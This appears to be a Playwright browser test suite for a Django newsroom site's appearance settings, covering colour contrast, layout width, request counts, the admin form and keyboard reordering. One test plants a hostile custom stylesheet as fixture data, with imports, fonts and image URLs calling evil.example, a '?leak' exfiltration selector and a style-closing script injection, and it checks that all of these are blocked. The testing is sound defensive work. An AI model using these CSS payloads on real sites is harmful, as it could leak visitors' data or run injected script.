"""The look in a browser: readable whatever was chosen, harmless whatever was written."""

import io
import itertools
import re

import pytest
from playwright.sync_api import expect

from articles.look.files import store_icon, store_logo
from articles.models import Publication, Section
from tests import factories
from tests.articles.pictures import encoded
from tests.browser.conftest import OF_COLOURS, SETTLE

LOOK = "/admin/articles/publication/look/"
# Pale yellow, black, white and neon: each is unreadable somewhere as it is.
HARD = ["#ffffaa", "#000000", "#ffffff", "#39ff14"]
PAGES = ("/", "/newsroom/story/", "/search/?q=story", "/admin/", LOOK)
ALL = list(itertools.product(PAGES, HARD))
TURNS = list(zip(PAGES, itertools.cycle(HARD), strict=False))  # each page once, and each accent
TOO_WIDE = "document.documentElement.scrollWidth - innerWidth"

pytestmark = pytest.mark.browser


def choose(**values):
    Publication.objects.update(**values)


@pytest.mark.parametrize("pages", [TURNS, pytest.param(ALL, marks=pytest.mark.drill)])
def test_no_accent_makes_a_page_hard_to_read(
    page, live_server, story, signed_in, axe_violations, pages
):
    found, schemes = {}, ["light", "dark"]
    for path, accent in pages:
        choose(accent=accent)
        page.goto(f"{live_server.url}{path}")
        for scheme in reversed(schemes):
            page.emulate_media(color_scheme=scheme)
            page.evaluate(SETTLE)
            found[path, accent, scheme] = axe_violations(*OF_COLOURS)
        schemes.reverse()  # begin as the last page was left: a change of colours takes a while
    assert {key: each for key, each in found.items() if each} == {}


def test_no_type_breaks_a_page(page, live_server, story, axe_violations):
    logo = store_logo(io.BytesIO(encoded((3000, 60), "PNG")))  # wider than any page
    choose(front_density="compact", masthead_logo=logo, masthead_logo_dark=logo)
    pages = ("/", "/newsroom/story/", "/newsroom/")
    for pair, path in itertools.product(Publication.Pair.values[1:], pages):
        choose(type_pair=pair)
        page.goto(f"{live_server.url}{path}")
        for width in (1440, 390, 320):
            page.set_viewport_size({"width": width, "height": 900})
            assert page.evaluate(TOO_WIDE) <= 0, (pair, path, width)
        assert axe_violations() == [], (pair, path)


@pytest.mark.browser_context_args()  # its own: one that has fetched nothing yet
def test_a_page_with_everything_makes_no_more_requests(page, live_server, plain, seen):
    page.goto(f"{live_server.url}/newsroom/plain/", wait_until="networkidle")
    before = len(seen.requests)
    seen.requests.clear()
    square = io.BytesIO(encoded((512, 512), "PNG"))
    logo = store_logo(io.BytesIO(encoded((300, 100), "PNG")))
    dark = store_logo(io.BytesIO(encoded((300, 100), "PNG", colour="white")))
    choose(accent="#ffffaa", type_pair="magazine", icon=store_icon(square))
    choose(masthead_logo=logo, masthead_logo_dark=dark)
    page.emulate_media(color_scheme="dark")
    page.goto(f"{live_server.url}/newsroom/plain/", wait_until="networkidle")
    assert len(seen.requests) <= before <= 6, seen.requests
    assert [url for url in seen.requests if logo in url] == []
    assert len([url for url in seen.requests if dark in url]) == 1
    masthead = page.get_by_role("banner").get_by_role("img")
    expect(masthead).to_have_accessible_name("The Test Courier")
    assert seen.complaints == []


def test_hostile_rules_of_the_site_reach_nobody_else(
    page, live_server, plain, seen, settings, tmp_path
):
    settings.CUSTOM_CSS = tmp_path / "custom.css"
    settings.CUSTOM_CSS.write_text(
        '@import url("https://evil.example/a.css"); @charset "x";'
        "@font-face { font-family: Evil; src: url(https://evil.example/f.woff2) }"
        "body { font-family: Evil; background: url(https://evil.example/b.png) }"
        'a[href^="/"] { background: url("https://evil.example/?leak"), url(data:image/gif;,x) }'
        "a { behavior: url(x.htc); -moz-binding: url(https://evil.example/x.xml) }"
        "h1 { outline: 3px solid rgb(1, 2, 3) } </style><script>window.evil = 1</script>"
        "h1::after { content: '"
    )
    answers = []
    page.on("response", lambda response: answers.append(response.url))
    page.goto(f"{live_server.url}/newsroom/plain/", wait_until="networkidle")
    assert page.evaluate("window.evil") is None
    outline = "getComputedStyle(document.querySelector('h1')).outlineColor"
    assert page.evaluate(outline) == "rgb(1, 2, 3)"  # it is read
    assert [url for url in answers if not url.startswith(live_server.url)] == []
    assert all("violates the following Content Security" in each for each in seen.complaints)


def test_the_desk_has_none_of_the_rules_of_the_site(
    page, live_server, signed_in, settings, tmp_path
):
    factories.PublicationFactory()
    settings.CUSTOM_CSS = tmp_path / "custom.css"
    settings.CUSTOM_CSS.write_text("* { display: none !important }")
    page.goto(f"{live_server.url}{LOOK}")
    expect(page.get_by_role("heading", name="Look", exact=True)).to_be_visible()


def test_the_form_is_readable_and_fits_a_phone(page, live_server, signed_in, look):
    factories.PublicationFactory()
    for name in ("Word", "Wide"):
        factories.SectionFactory(name=name, slug=name.lower())
    logo = store_logo(io.BytesIO(encoded((3000, 60), "PNG")))
    choose(accent="#ffffaa", masthead_logo=logo, masthead_logo_dark=logo)
    page.goto(f"{live_server.url}{LOOK}")
    look("look")
    assert [each for each in look.found.values() if each] == []
    page.set_viewport_size({"width": 390, "height": 900})
    assert page.evaluate(TOO_WIDE) <= 0


def test_a_colour_is_shown_as_it_will_be_and_saved(page, live_server, signed_in, seen):
    factories.PublicationFactory()
    page.goto(f"{live_server.url}{LOOK}")
    page.get_by_label("Accent color").fill("#ffff99")
    light = page.locator("[data-shade=light]")
    expect(light).to_contain_text("#6e6c00")
    expect(light.locator("rect")).to_have_attribute("fill", "#6e6c00")
    expect(page.get_by_role("status")).to_have_text(re.compile("^Too pale for light pages"))
    page.get_by_label("Accent color").fill("#ffff9")
    expect(page.get_by_role("status")).to_have_text(re.compile("^Enter a color"))
    page.get_by_label("Pick a color").fill("#0b4f9e")
    expect(page.get_by_label("Accent color")).to_have_value("#0b4f9e")
    page.get_by_label("Modern: the system’s own sans throughout").check()
    page.get_by_role("button", name="Save").click()
    expect(page.get_by_text("The look was saved.")).to_be_visible()
    found = Publication.objects.get()
    assert (found.accent, found.type_pair) == ("#0b4f9e", "modern")
    assert [each for each in seen.complaints if "400" not in each] == []


def test_sections_are_moved_by_the_keyboard_alone(page, live_server, signed_in):
    factories.PublicationFactory()
    Section.objects.all().delete()
    for name in ("First", "Second", "Third"):
        factories.SectionFactory(name=name, slug=name.lower())
    page.goto(f"{live_server.url}{LOOK}")
    page.get_by_role("button", name="Move “Third” up").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_text("“Third” is now number 2 of 3.")).to_be_visible()
    expect(page.get_by_role("button", name="Move “Third” up")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_text("“Third” is now number 1 of 3.")).to_be_visible()
    expect(page.get_by_role("button", name="Move “Third” down")).to_be_focused()
    order = Section.objects.order_by("position").values_list("name", flat=True)
    assert list(order) == ["Third", "First", "Second"]
